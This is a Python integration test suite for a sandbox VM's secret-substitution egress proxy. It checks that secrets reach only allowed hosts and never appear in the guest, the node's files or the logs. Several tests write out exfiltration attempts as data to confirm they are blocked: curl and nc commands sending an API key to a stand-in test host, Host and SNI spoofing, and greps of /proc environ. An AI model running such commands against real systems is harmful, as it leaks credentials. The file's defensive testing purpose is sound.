"""Secrets that never enter the VM (issue #12), on a real VM booted from the Debian test image
with curl and nc, against test hosts on TEST-NET addresses (tests/support/egress.py): the
allowed host receives the real value, over HTTPS and over plain HTTP where ``requireTLS`` is
false, also from ``nc``; every other way out is blocked without the value; QUIC is dropped;
the value is nowhere in the guest, the node's files or the logs; a rotation takes effect at
once."""

from __future__ import annotations

import asyncio
import base64
import uuid
from collections.abc import AsyncIterator, Iterator, MutableMapping
from typing import Any

import pytest
import pytest_asyncio
import structlog

from kubesandbox_api.conditions import Phase
from kubesandbox_node.egress.substitute import Violation
from kubesandbox_node.runtime.manager import Runtime
from kubesandbox_node.runtime.model import DesiredSandbox
from kubesandbox_node.runtime.supervisor import Supervisor
from kubesandbox_protocol import AgentClient
from tests.integration.node.runtime.conftest import Images, Node, booted, networked_node
from tests.support.egress import EgressHosts, egress_hosts, files_holding

pytestmark = [pytest.mark.vm, pytest.mark.asyncio(loop_scope="module")]
API, PLAIN, OTHER = "api.sec.test", "plain.sec.test", "other.sec.test"
VALUE = "sk-live-7f3a9c1e5b"
PLAIN_VALUE = "plain-0d9e8c7b6a"
BODY_VALUE = "body-5e4d3c2b1a"
ROTATED = "sk-rotated-2b4d6f8h"
SECRETS = [
    {"env": "API_KEY", "secretKeyRef": {"name": "s", "key": "api"}, "allowHosts": [API]},
    {"env": "PLAIN_KEY", "secretKeyRef": {"name": "s", "key": "plain"},
     "allowHosts": [PLAIN], "requireTLS": False},
    {"env": "BODY_KEY", "secretKeyRef": {"name": "s", "key": "body"}, "allowHosts": [API],
     "substitution": {"body": True}},
]  # fmt: skip
VALUES = {"API_KEY": VALUE, "PLAIN_KEY": PLAIN_VALUE, "BODY_KEY": BODY_VALUE}


@pytest.fixture(scope="module")
def kit() -> Iterator[EgressHosts]:
    with egress_hosts([API, PLAIN, OTHER]) as hosts:
        yield hosts


@pytest.fixture(scope="module")
def logs() -> Iterator[list[MutableMapping[str, Any]]]:
    with structlog.testing.capture_logs() as captured:
        yield captured


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def node(
    images: Images, kit: EgressHosts, logs: list[MutableMapping[str, Any]]
) -> AsyncIterator[Node]:
    async with networked_node(
        images, prefix="ksb-sec-", dns=(kit.dns,), upstream_cas=(str(kit.ca_pem),)
    ) as made:
        yield made


@pytest.fixture(scope="module")
def runtime(node: Node) -> Runtime:
    return node.runtime  # the first runtime; the restart test (last) makes another


@pytest.fixture(scope="module")
def violations(node: Node) -> list[tuple[str, Violation]]:
    found: list[tuple[str, Violation]] = []
    node.network.on_violation = lambda uid, violation: found.append((uid, violation))
    return found


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def sandbox(
    runtime: Runtime, egress_guest_image: str, violations: list[tuple[str, Violation]]
) -> Supervisor:
    spec = {
        "image": {"oci": egress_guest_image},
        "memory": 384,
        "network": {"policy": "PublicOnly"},
        "secrets": SECRETS,
    }
    return await booted(runtime, "sec", spec, {"secrets": VALUES})


async def guest(sandbox: Supervisor, script: str) -> tuple[int, str]:
    async with await AgentClient.connect(sandbox.relay_socket) as client:
        result = await client.run("sh", ["-c", script])
    return result.code, result.stdout.decode() + result.stderr.decode()


def curl(*args: str) -> str:
    return "curl -sS --max-time 20 " + " ".join(args)


def nobody_carries(kit: EgressHosts, *texts: str) -> None:
    for host in kit.hosts.values():
        for text in texts:
            assert not host.carries(text), f"{host.name} received {text!r}"


async def test_the_guest_holds_only_placeholders(sandbox: Supervisor) -> None:
    code, out = await guest(
        sandbox,
        'printf "%s|%s|%s\\n" "$API_KEY" "$PLAIN_KEY" "$BODY_KEY"; '
        "grep -c 'BEGIN CERTIFICATE' \"$SSL_CERT_FILE\"; "
        'test "$SSL_CERT_FILE" = "$REQUESTS_CA_BUNDLE" && test -s "$NODE_EXTRA_CA_CERTS" && '
        'test "$CURL_CA_BUNDLE" = "$SSL_CERT_FILE" && echo vars-ok',
    )
    assert code == 0, out
    lines = out.splitlines()
    assert lines[0] == "$MSB_API_KEY|$MSB_PLAIN_KEY|$MSB_BODY_KEY"
    assert int(lines[1]) > 1  # the distribution's CAs and ours
    assert lines[2] == "vars-ok"


async def test_https_to_the_allowed_host_carries_the_value(
    sandbox: Supervisor, kit: EgressHosts
) -> None:
    code, out = await guest(
        sandbox,
        curl('-H "Authorization: Bearer $API_KEY"', f"https://{API}/bearer")
        + " && "
        + curl('-u "user:$API_KEY"', f"https://{API}/basic"),
    )
    assert code == 0, out
    bearer = kit[API].wait_for(lambda r: r.path == "/bearer")
    assert (bearer.scheme, bearer.sni) == ("https", API)
    assert bearer.header("authorization") == f"Bearer {VALUE}"
    basic = kit[API].wait_for(lambda r: r.path == "/basic")
    token = (basic.header("authorization") or "").split()[1]
    assert base64.b64decode(token).decode() == f"user:{VALUE}"


async def test_keep_alive_requests_and_a_body_substitution(
    sandbox: Supervisor, kit: EgressHosts
) -> None:
    code, out = await guest(
        sandbox,
        curl(
            '-H "X-Key: $API_KEY"',
            f"https://{API}/first",
            "--next",
            '--data "token=$BODY_KEY&x=1"',
            f"https://{API}/second",
        ),
    )
    assert code == 0, out
    second = kit[API].wait_for(lambda r: r.path == "/second")
    assert second.body == f"token={BODY_VALUE}&x=1"
    assert second.header("content-length") == str(len(second.body))
    assert kit[API].wait_for(lambda r: r.path == "/first").header("x-key") == VALUE


async def test_plain_http_with_require_tls_false_also_from_nc(
    sandbox: Supervisor, kit: EgressHosts
) -> None:
    request = "GET /nc HTTP/1.1\\r\\nHost: %s\\r\\nX-Key: %s\\r\\nConnection: close\\r\\n\\r\\n"
    code, out = await guest(
        sandbox,
        curl('-H "X-Key: $PLAIN_KEY"', f"http://{PLAIN}/curl")
        + f' && printf "{request}" {PLAIN} "$PLAIN_KEY" | nc -N -w 20 {PLAIN} 80',
    )
    assert code == 0, out
    assert "200" in out
    assert kit[PLAIN].wait_for(lambda r: r.path == "/curl").header("x-key") == PLAIN_VALUE
    assert kit[PLAIN].wait_for(lambda r: r.path == "/nc").header("x-key") == PLAIN_VALUE


@pytest.mark.parametrize(
    ("label", "command"),
    [
        ("another host", curl('-H "X-Key: $API_KEY"', f"https://{OTHER}/another")),
        ("plain http where TLS is required", curl('-H "X-Key: $API_KEY"', f"http://{API}/plain")),
        (
            "SNI and Host differ",
            curl(f'-H "Host: {OTHER}" -H "X-Key: $API_KEY"', f"https://{API}/mismatch"),
        ),
        ("a body to another host", curl('--data "k=$API_KEY"', f"https://{OTHER}/body")),
        ("the query to another host", curl(f'"https://{OTHER}/q?k=$API_KEY"')),
        ("nc to another host", f'printf "%s" "$API_KEY" | nc -N -w 10 {OTHER} 80'),
    ],
)
async def test_every_other_way_out_is_blocked(
    sandbox: Supervisor,
    kit: EgressHosts,
    violations: list[tuple[str, Violation]],
    label: str,
    command: str,
) -> None:
    for host in kit.hosts.values():
        host.clear()
    before = len(violations)
    code, out = await guest(sandbox, command)
    assert code != 0 or "ok" not in out, (label, out)
    nobody_carries(kit, VALUE, PLAIN_VALUE, BODY_VALUE)
    assert not kit[OTHER].carries("$MSB_API_KEY"), label
    assert len(violations) == before + 1, label
    assert violations[-1][1].envs == ("API_KEY",)
    assert violations[-1][0] == sandbox.uid


async def test_a_spoofed_host_is_blocked(
    sandbox: Supervisor, kit: EgressHosts, violations: list[tuple[str, Violation]]
) -> None:
    other = kit[OTHER].address
    for host in kit.hosts.values():
        host.clear()
    before = len(violations)
    _, out = await guest(
        sandbox,
        curl(f'-H "Host: {PLAIN}" -H "X-Key: $PLAIN_KEY"', f"http://{other}/spoof")
        + "; "
        + curl(f"--resolve {API}:443:{other}", '-H "X-Key: $API_KEY"', f"https://{API}/spoof"),
    )
    assert "ok" not in out, out
    assert not kit[OTHER].requests() or all(r.path != "/spoof" for r in kit[OTHER].requests())
    nobody_carries(kit, VALUE, PLAIN_VALUE)
    assert len(violations) == before + 1  # the HTTPS one never got past the upstream check


async def test_quic_is_dropped(sandbox: Supervisor, kit: EgressHosts) -> None:
    code, out = await guest(sandbox, f"printf quic-probe | nc -u -w 1 {API} 443")
    assert code == 0, out
    await asyncio.sleep(1)
    assert kit[API].datagrams() == []


async def test_a_rotated_value_is_used_at_once(
    sandbox: Supervisor, runtime: Runtime, kit: EgressHosts
) -> None:
    desired = sandbox.desired
    rotated = DesiredSandbox.model_validate(
        {**desired.model_dump(by_alias=True), "resolved": {"secrets": {**VALUES,
                                                                       "API_KEY": ROTATED}}}
    )  # fmt: skip
    assert runtime.put(rotated) is sandbox
    code, out = await guest(sandbox, curl('-H "X-Key: $API_KEY"', f"https://{API}/rotated"))
    assert code == 0, out
    assert kit[API].wait_for(lambda r: r.path == "/rotated").header("x-key") == ROTATED
    assert sandbox.handle is not None  # the same VM: no restart


async def guest_ca(sandbox: Supervisor) -> str:
    code, out = await guest(sandbox, 'cat "$NODE_EXTRA_CA_CERTS"')
    assert code == 0, out
    return out


async def test_suspend_and_resume_keep_the_proxy(
    sandbox: Supervisor, runtime: Runtime, kit: EgressHosts
) -> None:
    before = await guest_ca(sandbox)
    data = sandbox.desired.model_dump(by_alias=True)
    data["resolved"] = {"secrets": {**VALUES, "API_KEY": ROTATED}}
    for generation, state, phase in ((7, "Suspended", Phase.SUSPENDED),
                                     (8, "Running", Phase.RUNNING)):  # fmt: skip
        data["generation"] = generation
        data["spec"]["lifecycle"]["state"] = state
        runtime.put(DesiredSandbox.model_validate(data))
        async with asyncio.timeout(180):
            while sandbox.phase != phase:  # noqa: ASYNC110
                await asyncio.sleep(0.1)
    code, out = await guest(sandbox, curl('-H "X-Key: $API_KEY"', f"https://{API}/resumed"))
    assert code == 0, out
    assert kit[API].wait_for(lambda r: r.path == "/resumed").header("x-key") == ROTATED
    assert await guest_ca(sandbox) == before


async def test_a_fork_gets_its_own_proxy_and_ca(
    sandbox: Supervisor, runtime: Runtime, kit: EgressHosts
) -> None:
    source_ca = await guest_ca(sandbox)
    spec = {
        "image": {"sandbox": {"name": "sec"}},
        "memory": 384,
        "network": {"policy": "PublicOnly"},
        "secrets": SECRETS,
    }
    fork = await booted(runtime, "sec-fork", spec, {"forkOf": sandbox.uid, "secrets": VALUES})
    try:
        fork_ca = await guest_ca(fork)
        assert fork_ca.startswith("-----BEGIN CERTIFICATE-----")
        assert fork_ca != source_ca
        code, out = await guest(fork, curl('-H "X-Key: $API_KEY"', f"https://{API}/forked"))
        assert code == 0, out
        assert kit[API].wait_for(lambda r: r.path == "/forked").header("x-key") == VALUE
        assert await guest_ca(sandbox) == source_ca  # the source keeps its own
    finally:
        await runtime.remove(fork.uid)


async def test_a_pool_vm_claimed_with_secrets_gets_its_own_proxy_and_ca(
    sandbox: Supervisor, runtime: Runtime, kit: EgressHosts, egress_guest_image: str
) -> None:
    """Secrets apply at a claim (docs/pools.md): a member booted without any serves a
    claimant that has them, as if it had booted with them: placeholders in its env, a proxy
    holding the values behind a CA of its own in its trust store, the value sent only to the
    allowed host."""
    spec: dict[str, Any] = {
        "image": {"oci": egress_guest_image},
        "memory": 384,
        "network": {"policy": "PublicOnly"},
    }
    member = DesiredSandbox.model_validate(
        {"namespace": "default", "name": "sec-pool-x", "uid": str(uuid.uuid4()),
         "generation": 1, "spec": spec, "poolMember": True}
    )  # fmt: skip
    supervisor = runtime.put(member)
    async with asyncio.timeout(240):
        while supervisor.phase != Phase.RUNNING:  # noqa: ASYNC110
            await asyncio.sleep(0.05)
    # no secrets, no proxy: nothing to trust
    assert await guest(supervisor, 'echo "[$NODE_EXTRA_CA_CERTS]"') == (0, "[]\n")
    claimant = DesiredSandbox.model_validate(
        {"namespace": "default", "name": "sec-claimed", "uid": str(uuid.uuid4()),
         "generation": 1, "spec": {**spec, "secrets": SECRETS}, "resolved": {"secrets": VALUES}}
    )  # fmt: skip
    claimed = await runtime.claim(member.uid, claimant, "sec-pool")
    try:
        code, out = await guest(claimed, 'printf "%s\n" "$API_KEY"')
        assert (code, out) == (0, "$MSB_API_KEY\n")
        claimed_ca = await guest_ca(claimed)
        assert claimed_ca.startswith("-----BEGIN CERTIFICATE-----")
        assert claimed_ca != await guest_ca(sandbox)
        code, out = await guest(claimed, curl('-H "X-Key: $API_KEY"', f"https://{API}/claimed"))
        assert code == 0, out
        assert kit[API].wait_for(lambda r: r.path == "/claimed").header("x-key") == VALUE
        for host in kit.hosts.values():
            host.clear()
        code, out = await guest(
            claimed, curl('-H "X-Key: $API_KEY"', f"https://{OTHER}/claimed-elsewhere")
        )
        nobody_carries(kit, VALUE)
    finally:
        await runtime.remove(claimant.uid)  # a claimed VM is the claimant's (its own uid: nobody)


async def test_a_restarted_node_agent_makes_a_new_ca_and_gets_the_values_again(
    sandbox: Supervisor, node: Node, kit: EgressHosts
) -> None:
    before = await guest_ca(sandbox)
    desired = sandbox.desired
    assert (await node.restart())[sandbox.uid] is True
    adopted = node.runtime.sandboxes[sandbox.uid]
    async with asyncio.timeout(60):  # the guest's files are rewritten in the background
        while (now := await guest_ca(adopted)) == before:  # noqa: ASYNC110
            await asyncio.sleep(0.2)
    assert now.startswith("-----BEGIN CERTIFICATE-----")
    code, out = await guest(adopted, curl('-H "X-Key: $API_KEY"', f"https://{API}/early"))
    assert code != 0, out  # no value yet: refused, not sent
    assert all(r.path != "/early" for r in kit[API].requests())
    node.runtime.put(desired)  # what the operator sends a new node agent instance
    code, out = await guest(adopted, curl('-H "X-Key: $API_KEY"', f"https://{API}/adopted"))
    assert code == 0, out
    assert kit[API].wait_for(lambda r: r.path == "/adopted").header("x-key") == ROTATED


async def test_the_values_are_nowhere_in_the_guest_the_node_or_the_logs(
    sandbox: Supervisor, runtime: Runtime, logs: list[MutableMapping[str, Any]]
) -> None:
    values = [VALUE, PLAIN_VALUE, BODY_VALUE, ROTATED]
    pattern = "|".join(values)
    _, out = await guest(
        sandbox,
        f"cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E -c '{pattern}'; "
        f"grep -rlE '{pattern}' /etc /root /tmp /var /home /opt /srv /run /.msb 2>/dev/null "
        "| head -5; true",
    )
    assert out.splitlines()[0] == "0", out
    assert out.splitlines()[1:] == [], out
    assert await asyncio.to_thread(files_holding, runtime.store.root.parent, values) == []
    rendered = repr(logs)
    for value in values:
        assert value not in rendered
    assert any(entry["event"] == "egress.secret_violation" for entry in logs)
